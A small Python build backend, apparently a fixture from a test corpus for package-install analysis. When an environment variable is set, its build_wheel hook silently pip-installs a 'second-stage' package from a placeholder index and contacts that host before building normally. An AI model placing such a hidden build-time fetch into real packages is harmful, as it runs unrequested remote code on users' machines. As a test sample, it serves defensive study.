"""The plain backend, which does one thing more while it builds."""
import os
import subprocess
import sys
import urllib.request

import plain_backend


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    return plain_backend.prepare_metadata_for_build_wheel(metadata_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("PYTI_CORPUS") == "installs-another-package":
        command = [sys.executable, "-m", "pip", "install", "--retries", "0", "--timeout", "2"]
        command += ["--trusted-host", "index.test", "--index-url", "http://index.test/simple/", "corpus-second-stage"]
        subprocess.run(command, timeout=30)
        try:
            urllib.request.urlopen("http://index.test/simple/corpus-second-stage/", timeout=3).close()
        except OSError:
            pass
    return plain_backend.build_wheel(wheel_directory, config_settings, metadata_directory)
